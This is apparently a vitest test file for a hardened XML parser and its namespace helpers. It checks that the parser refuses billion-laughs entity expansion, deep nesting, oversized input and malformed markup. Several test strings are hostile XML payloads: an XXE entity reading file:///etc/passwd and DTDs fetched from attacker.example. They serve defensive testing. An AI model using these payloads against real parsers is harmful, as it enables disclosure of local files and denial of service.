import { describe, expect, it } from 'vitest';
import {
  child,
  childElements,
  children,
  parseXml,
  text,
  XML_MAX_BYTES,
  XML_MAX_DEPTH,
  XML_MAX_ELEMENTS,
} from '../../../src/xml/parse.js';

function refused(xml: string, why: RegExp, limits = {}): void {
  expect(() => parseXml(xml, limits)).toThrow(
    expect.objectContaining({ code: 'ERR_INVALID_XML', message: expect.stringMatching(why) }),
  );
}

const nested = (depth: number) => `${'<e>'.repeat(depth)}${'</e>'.repeat(depth)}`;

describe('parseXml', () => {
  it('accepts a well-formed document with namespaces, comments and a declaration', () => {
    const doc = parseXml(
      '<?xml version="1.0" encoding="UTF-8"?><r xmlns="urn:x" xmlns:p="urn:p"><!-- c --><p:a k="v">1 &amp; 2</p:a></r>',
    );
    expect(doc.documentElement.localName).toBe('r');
    const a = child(doc.documentElement, 'urn:p', 'a')!;
    expect(a.getAttribute('k')).toBe('v');
    expect(text(a)).toBe('1 & 2');
  });

  it('refuses the billion laughs', () => {
    const entities = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('');
    refused(
      `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">${entities}]><lolz>&lol9;</lolz>`,
      /DTD or an entity/,
    );
  });

  it('refuses external entities (XXE), external DTDs and parameter entities', () => {
    refused('<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>', /DTD or an entity/);
    refused('<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd"><foo/>', /DTD or an entity/);
    refused('<!DOCTYPE foo PUBLIC "-//X//Y" "http://attacker.example/evil.dtd"><foo/>', /DTD or an entity/);
    refused('<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><foo/>', /DTD or an entity/);
  });

  it('refuses a DTD however it is spelled', () => {
    refused('<!doctype foo><foo/>', /DTD or an entity/);
    refused('<! DOCTYPE foo><foo/>', /DTD|well-formed/);
    refused('<foo><!ENTITY x "y"></foo>', /DTD or an entity/);
    refused('<foo><!ATTLIST foo a CDATA "x"></foo>', /DTD or an entity/);
  });

  it('refuses a reference to an undeclared entity', () => {
    refused('<foo>&xxe;</foo>', /well-formed/);
  });

  it('refuses 10,000 levels of nesting quickly', () => {
    const started = performance.now();
    refused(nested(10_000), /nest deeper than 48 levels/);
    expect(performance.now() - started).toBeLessThan(2_000);
  });

  it(`accepts ${XML_MAX_DEPTH} levels and refuses one more, or past a custom depth`, () => {
    expect(parseXml(nested(XML_MAX_DEPTH)).documentElement.localName).toBe('e');
    refused(nested(XML_MAX_DEPTH + 1), /nest deeper/);
    refused(nested(5), /nest deeper than 4 levels/, { maxDepth: 4 });
  });

  it('refuses an oversized document, counting UTF-8 bytes', () => {
    refused(`<a>${'x'.repeat(XML_MAX_BYTES)}</a>`, /larger than 262144 bytes/);
    const euros = `<a>${'€'.repeat(40)}</a>`; // 47 characters, 127 bytes
    expect(parseXml(euros, { maxBytes: 127 }).documentElement.textContent).toHaveLength(40);
    refused(euros, /larger than 100 bytes/, { maxBytes: 100 });
  });

  it('refuses too many elements', () => {
    expect(parseXml(`<r>${'<e/>'.repeat(XML_MAX_ELEMENTS - 1)}</r>`).documentElement.childNodes).toHaveLength(
      XML_MAX_ELEMENTS - 1,
    );
    refused(`<r>${'<e/>'.repeat(XML_MAX_ELEMENTS)}</r>`, /more than 4096 elements/);
    refused('<r><e/><e/><e/></r>', /more than 3 elements/, { maxElements: 3 });
  });

  it('refuses documents that are not well-formed', () => {
    for (const bad of [
      '',
      'just text',
      '<a>',
      '<a><b>',
      '<a></a><b/>',
      '<a x="1" x="2"/>',
      '<a>1 < 2</a>',
      '<a b=c/>',
    ]) {
      refused(bad, /well-formed/);
    }
  });

  // xmldom 0.8 recovers from these without telling its error handler, so parseXml accepts them today
  it('refuses mismatched end tags such as <a><b></a></b>', () => {
    for (const doc of ['<a><b></a></b>', '<a><b></b>', '<a></a></a>', '<a x="1>"><b></a>'])
      expect(() => parseXml(doc)).toThrow(/end tag|not closed|not well-formed/);
  });
  it('refuses an unbound namespace prefix such as <p:a/>', () => {
    expect(() => parseXml('<p:a/>')).toThrow(/bound to no namespace/);
    expect(() => parseXml('<a q:x="1"/>')).toThrow(/bound to no namespace/);
  });
  it('refuses "]]>" in text and characters XML forbids', () => {
    expect(() => parseXml('<a>x]]>y</a>')).toThrow(/\]\]>/);
    expect(() => parseXml('<a>\u0000</a>')).toThrow(/character/);
  });
  it('keeps markup-like text in comments, CDATA, attribute values and instructions', () => {
    const doc = parseXml('<?xml version="1.0"?><a t="b>c"><!-- </c> --><![CDATA[</d> <e>]]><?pi </f>?><g/></a>');
    expect(doc.documentElement.getAttribute('t')).toBe('b>c');
  });

  it('refuses what a conforming parser refuses and xmldom would repair or read differently', () => {
    for (const doc of [
      '<r><a></a\u00A0><b/></r>', // JavaScript whitespace is not XML whitespace
      '<a\u2028b="1"/>',
      '<a t="<"/>', // "<" in an attribute value
      'GARBAGE <a/>', // text outside the root
      '<a/> TRAILING',
      '<a/><b/>', // two roots
      '<!-- a -- b --><a/>',
      '<a/><?xml version="1.0"?>',
      '',
    ])
      expect(() => parseXml(doc), JSON.stringify(doc)).toThrow(/not well-formed/);
  });

  it('refuses forbidden characters written as character references', () => {
    expect(() => parseXml('<a t="x&#0;y"/>')).toThrow(/character/);
    expect(() => parseXml('<a>&#1;</a>')).toThrow(/character/);
    expect(() => parseXml('<a>&#xFFFF;</a>')).toThrow(/character/);
  });

  it('applies the depth and element limits in the scan, before a tree is built', () => {
    expect(() => parseXml(`<r>${'<x/>'.repeat(5_000)}</r>`)).toThrow(/more than 4096 elements/);
    expect(() => parseXml(`${'<a>'.repeat(49)}${'</a>'.repeat(49)}`)).toThrow(/deeper than 48/);
    expect(parseXml(`${'<a>'.repeat(48)}${'</a>'.repeat(48)}`).documentElement.localName).toBe('a');
  });

  it('never echoes the document in its refusal', () => {
    try {
      parseXml('<secret>hunter2');
      expect.unreachable();
    } catch (error) {
      expect((error as Error).message).not.toContain('hunter2');
    }
  });
});

describe('xml helpers', () => {
  const doc = parseXml(
    '<r xmlns:a="urn:a" xmlns:b="urn:b">text<!-- c --><a:x> one </a:x><b:x/><a:y/><a:y/><?pi x?></r>',
  );
  const root = doc.documentElement;

  it('childElements lists elements only', () => {
    expect(childElements(root).map((e) => e.nodeName)).toEqual(['a:x', 'b:x', 'a:y', 'a:y']);
  });

  it('children matches namespace and local name', () => {
    expect(children(root, 'urn:a', 'x')).toHaveLength(1);
    expect(children(root, 'urn:a', 'y')).toHaveLength(2);
    expect(children(root, 'urn:c', 'x')).toHaveLength(0);
  });

  it('child answers the one match, undefined for none, and refuses several', () => {
    expect(child(root, 'urn:b', 'x')?.nodeName).toBe('b:x');
    expect(child(root, 'urn:b', 'z')).toBeUndefined();
    expect(() => child(root, 'urn:a', 'y')).toThrow(expect.objectContaining({ code: 'ERR_INVALID_XML' }));
  });

  it('text trims the text content', () => {
    expect(text(child(root, 'urn:a', 'x')!)).toBe('one');
  });
});
